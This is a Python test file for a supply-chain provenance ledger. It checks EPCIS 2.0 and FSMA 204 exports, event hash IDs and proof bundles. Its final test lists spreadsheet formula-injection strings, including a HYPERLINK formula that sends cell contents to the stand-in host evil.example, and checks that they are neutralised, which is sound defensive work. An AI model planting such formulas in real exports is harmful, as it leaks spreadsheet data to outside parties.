"""EPCIS 2.0 and FSMA 204 exports of the demo, and the proof bundle the page offers."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
from datetime import UTC, datetime

from epcis_event_hash_generator.file_document_loader import file_document_loader
from pyld import jsonld
from typer.testing import CliRunner
from web3 import Web3

from ledger.cli import app
from ledger.demo import DEMO_BAG, DEMO_LOAF
from ledger.epcis import EPCIS_CONTEXT
from ledger.identifiers import batch_id, parse_digital_link
from ledger.verify import verify_bundle

BAG = "0x" + batch_id(*DEMO_BAG).hex()
LOAF = "0x" + batch_id(*DEMO_LOAF).hex()
EPCIS = "https://ref.gs1.org/epcis/"


# ------------------------------------------------------------------ EPCIS event hash, written again
# A second implementation of the EPCIS Event Hash ID (CBV 2.0 section 8.9, as published with GS1's
# reference examples), written from the rules rather than with the library ledger.epcis calls, for
# the fields our documents use. Its canonical property order:
CANONICAL_ORDER = (
    "eventType", "eventTime", "eventTimeZoneOffset", "certificationInfo", "epcList", "parentID", "inputEPCList",
    "childEPCs", "quantityList", "childQuantityList", "inputQuantityList", "outputEPCList", "outputQuantityList",
    "action", "transformationID", "bizStep", "disposition", "readPoint", "bizLocation", "bizTransactionList",
    "sourceList", "destinationList", "sensorElementList", "ilmd",
)  # fmt: skip
CBV = "https://ref.gs1.org/cbv/"
#: Bare CBV words expand to their Web URI (rule 16); the prefix says which vocabulary.
VOCABULARY = {"bizStep": "BizStep-", "disposition": "Disp-", "sourceList": "SDT-", "destinationList": "SDT-"}
EXTENSION_NAMESPACE = "https://w3id.org/provenance-ledger/epcis#"


def _timestamp(text: str) -> str:
    """UTC with millisecond precision and a Z (rules 8 and 9)."""
    moment = datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def _value(value) -> str:
    """A value as the pre-hash writes it: numbers without trailing zeros (rules 6, 7), text trimmed (rule 5)."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return format(value, "f").rstrip("0").rstrip(".") if isinstance(value, float) else str(value)
    return str(value).strip()


def _extension_key(key: str) -> str:
    """`pl:name` as {namespace}name (rules 19 and 20)."""
    prefix, _, local = key.partition(":")
    assert prefix == "pl", key  # the only extension namespace of our documents
    return "{" + EXTENSION_NAMESPACE + "}" + local


def _field(name: str, value) -> str:
    if name in ("eventTime",):
        return f"{name}={_timestamp(value)}"
    if name in ("bizStep", "disposition"):
        return f"{name}={CBV}{VOCABULARY[name]}{value}"
    if name in ("quantityList", "childQuantityList", "inputQuantityList", "outputQuantityList"):
        # Each element's own fields in their order, then the elements sorted (rules 11, 12).
        elements = sorted(
            "quantityElement" + "".join(f"{k}={_value(q[k])}" for k in ("epcClass", "quantity", "uom") if k in q) for q in value
        )
        return name + "".join(elements) if elements else ""
    if name in ("sourceList", "destinationList"):
        # Each element's type first, then its id (as GS1's published CBV 2.0 vector
        # ObjectEvent_all_possible_fields writes "sourceListtype=...SDT-locationsource=..."), sorted.
        key = name.removesuffix("List")
        elements = sorted(f"type={CBV}{VOCABULARY[name]}{entry['type']}{key}={entry[key]}" for entry in value)
        return name + "".join(elements) if elements else ""
    if name == "ilmd":
        return name + "".join(sorted(f"{_extension_key(k)}={_value(v)}" for k, v in value.items()))
    if isinstance(value, list):
        return (
            "".join(f"{name}={_value(v)}" for v in sorted(value))
            if name == "certificationInfo"
            else (name + "".join(f"{name.removesuffix('List')}={_value(v)}" for v in sorted(value)) if value else "")
        )
    return f"{name}={_value(value)}"


def event_pre_hash(event: dict) -> str:
    """The canonical pre-hash string of one JSON-LD event (without its eventID)."""
    fields = {"eventType": event["type"], **{k: v for k, v in event.items() if k not in ("type", "eventID")}}
    unknown = set(fields) - set(CANONICAL_ORDER) - {k for k in fields if k.startswith("pl:")}
    assert not unknown, f"the second implementation does not know {unknown}"
    canonical = "".join(_field(name, fields[name]) for name in CANONICAL_ORDER if name in fields)
    extensions = sorted(f"{_extension_key(k)}={_value(v)}" for k, v in fields.items() if k.startswith("pl:"))
    return canonical + "".join(extensions)


def event_hash(event: dict) -> str:
    """The EPCIS Event Hash ID: sha-256 of the pre-hash, as an RFC 6920 `ni` URI with the CBV version."""
    return f"ni:///sha-256;{hashlib.sha256(event_pre_hash(event).encode()).hexdigest()}?ver=CBV2.0"


def test_the_second_implementation_writes_the_standard_pre_hash_by_hand():
    # One commissioning event, its pre-hash written out field by field from the rules.
    event = {
        "type": "ObjectEvent",
        "eventTime": "2026-12-02T20:47:24+01:00",
        "eventTimeZoneOffset": "+01:00",
        "pl:txHash": "0xab",
        "pl:blockNumber": 31,
        "action": "ADD",
        "bizStep": "commissioning",
        "disposition": "active",
        "epcList": [],
        "quantityList": [{"epcClass": "https://id.gs1.org/01/09506000135014/10/ESP-2026-07", "quantity": 12000.0, "uom": "KGM"}],
        "sourceList": [{"type": "owning_party", "source": "did:pkh:eip155:31337:0x01"}],
        "ilmd": {"pl:product": " Green coffee ", "pl:origin": "Huila"},
    }
    pl = "{" + EXTENSION_NAMESPACE + "}"
    assert event_pre_hash(event) == (
        "eventType=ObjectEvent" "eventTime=2026-12-02T19:47:24.000Z" "eventTimeZoneOffset=+01:00"
        "quantityListquantityElementepcClass=https://id.gs1.org/01/09506000135014/10/ESP-2026-07quantity=12000uom=KGM"
        "action=ADD" "bizStep=https://ref.gs1.org/cbv/BizStep-commissioning" "disposition=https://ref.gs1.org/cbv/Disp-active"
        "sourceListtype=https://ref.gs1.org/cbv/SDT-owning_partysource=did:pkh:eip155:31337:0x01"
        f"ilmd{pl}origin=Huila{pl}product=Green coffee"
        f"{pl}blockNumber=31{pl}txHash=0xab"
    )  # fmt: skip
    assert event_hash(event) == "ni:///sha-256;" + hashlib.sha256(event_pre_hash(event).encode()).hexdigest() + "?ver=CBV2.0"


def lineage_lots(client, root):
    lots = set()

    def walk(node):
        lots.add((node["gtin"], node["lot"]))
        for child in node.get("inputs", []):
            walk(child)

    walk(client.get(f"/api/v1/batches/{root}/lineage").json()["tree"])
    return lots


def test_epcis_export_is_a_complete_epcis_2_document(client):
    response = client.get(f"/api/v1/batches/{BAG}/epcis")
    assert response.status_code == 200 and response.headers["content-type"] == "application/ld+json"
    document = response.json()
    assert document["@context"][0] == EPCIS_CONTEXT and document["type"] == "EPCISDocument" and document["schemaVersion"] == "2.0"
    events = document["epcisBody"]["eventList"]
    assert {e["type"] for e in events} == {"ObjectEvent", "TransformationEvent"}
    # Valid JSON-LD under the standard context (GS1's copy bundled with the hash generator, so offline).
    jsonld.set_document_loader(file_document_loader())
    expanded = jsonld.expand(copy.deepcopy(document))
    assert expanded[0]["@type"] == [EPCIS + "EPCISDocument"]
    body = expanded[0][EPCIS + "epcisBody"][0][EPCIS + "eventList"]
    assert {t for e in body for t in e["@type"]} == {EPCIS + "ObjectEvent", EPCIS + "TransformationEvent"}
    assert len(body) == len(events)
    # Each event hash is the CBV 2.0 algorithm's, recomputed by the second implementation above.
    mismatched = [(e["type"], e.get("bizStep"), event_pre_hash(e)) for e in events if e["eventID"] != event_hash(e)]
    assert not mismatched, f"{len(mismatched)} of {len(events)} event IDs are not the standard event hash: {mismatched[:2]}"
    assert all(e["eventID"].startswith("ni:///sha-256;") for e in events) and len({e["eventID"] for e in events}) == len(events)
    # Identifiers round-trip: every class is a lot of the lineage, as a GS1 Digital Link.
    classes = {
        q["epcClass"]
        for e in events
        for key in ("quantityList", "inputQuantityList", "outputQuantityList")
        for q in e.get(key, [])
    }
    parsed = {(link.gtin, link.lot) for link in map(parse_digital_link, classes)}
    assert parsed == lineage_lots(client, BAG)
    commissioning = [e for e in events if e.get("bizStep") == "commissioning" and e["type"] == "ObjectEvent"]
    assert {e["quantityList"][0]["uom"] for e in commissioning} == {"KGM"} and len(commissioning) == 3  # the farms
    merge = next(e for e in events if e["type"] == "TransformationEvent" and e["bizStep"] == "assembling")
    assert (
        sum(q["quantity"] for q in merge["inputQuantityList"]) == 26_000 and merge["outputQuantityList"][0]["quantity"] == 26_000
    )
    bags = [e for e in events if e["type"] == "TransformationEvent" and "TP-B-1107-A" in e["outputQuantityList"][0]["epcClass"]]
    assert bags and "uom" not in bags[0]["outputQuantityList"][0]  # pieces are counted, not measured
    certified = [e for e in events if "certificationInfo" in e]
    assert {e["pl:claim"] for e in certified} == {"FAIRTRADE", "ORGANIC", "DEFORESTATION_FREE"}
    assert any(e["disposition"] == "non_conformant" for e in certified)  # the revocation
    handover = next(e for e in events if e.get("bizStep") == "accepting")
    assert handover["sourceList"][0]["type"] == "possessing_party" and handover["destinationList"][0]["destination"].startswith(
        "did:pkh:eip155:31337:0x"
    )
    assert all(e["pl:txHash"].startswith("0x") for e in events)
    times = [e["eventTime"] for e in events]
    assert times == sorted(times)


def test_the_recall_appears_in_the_loafs_epcis_and_the_cli_writes_the_same_document(client, site, tmp_path):
    document = client.get(f"/api/v1/batches/{LOAF}/epcis").json()
    recall_events = [e for e in document["epcisBody"]["eventList"] if e.get("disposition") == "recalled"]
    # The recall with its reason, then the admin's review upholding it.
    assert [(e.get("pl:recallReview"), e["pl:reason"]) for e in recall_events] == [
        (None, "Deoxynivalenol above the EU limit in retained sample"),
        ("upheld", "Confirmed by the accredited laboratory's analysis of the retained sample"),
    ]
    out = tmp_path / "loaf.jsonld"
    env = {
        "PROVENANCE_DATA_DIR": str(site.settings.data_dir),
        "PROVENANCE_RPC_URL": site.settings.rpc_url,
        "PROVENANCE_PUBLIC_BASE_URL": site.settings.public_base_url,
    }
    result = CliRunner().invoke(app, ["export", "epcis", *DEMO_LOAF, "-o", str(out)], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.stdout
    written = json.loads(out.read_text())
    assert written["epcisBody"] == document["epcisBody"]


def test_fsma_204_csv_has_one_sortable_row_per_tracking_event(client, site):
    response = client.get(f"/api/v1/batches/{LOAF}/fsma.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0].keys() >= {
        "event_time_utc",
        "critical_tracking_event",
        "traceability_lot_code",
        "quantity",
        "reference_document",
    }
    assert [r["event_time_utc"] for r in rows] == sorted(r["event_time_utc"] for r in rows)
    transformation = next(r for r in rows if r["critical_tracking_event"] == "Transformation")
    assert transformation["lot"] == DEMO_LOAF[1] and transformation["quantity"] == "600"
    assert "(10)MV-F-2211" in transformation["input_lot_codes"] and "(10)ACG-C-0918" in transformation["input_lot_codes"]
    shipped = next(r for r in rows if r["critical_tracking_event"] == "Shipping" and r["lot"] == "MV-F-2211")
    assert shipped["immediate_subsequent_recipient"] == "Boulangerie des Tilleuls"
    env = {"PROVENANCE_DATA_DIR": str(site.settings.data_dir), "PROVENANCE_RPC_URL": site.settings.rpc_url}
    result = CliRunner().invoke(app, ["export", "csv", *DEMO_LOAF], env=env, catch_exceptions=False)
    assert result.exit_code == 0 and result.stdout == response.text


def test_the_page_offers_a_proof_bundle_that_verifies_against_the_node(client, site):
    page = client.get(f"/01/{DEMO_BAG[0]}/10/{DEMO_BAG[1]}").text
    assert f'href="/api/v1/batches/{BAG}/proof"' in page
    response = client.get(f"/api/v1/batches/{BAG}/proof")
    assert response.status_code == 200 and "attachment" in response.headers["content-disposition"]
    bundle = response.json()
    assert bundle["lot"] == DEMO_BAG[1] and len(bundle["lineage"]) == 6
    report = verify_bundle(Web3(Web3.HTTPProvider(site.settings.rpc_url)), bundle)
    assert report.ok, [c.__dict__ for c in report.mismatches]


def test_fsma_csv_cells_that_look_like_formulas_are_neutralised():
    # A supplier's step location or a name is attacker-controlled text.
    from ledger.epcis import spreadsheet_safe

    for hostile in ['=HYPERLINK("http://evil.example/?"&A1,"verified")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert spreadsheet_safe(hostile) == "'" + hostile
    assert spreadsheet_safe("Pitalito, CO") == "Pitalito, CO" and spreadsheet_safe(600) == 600
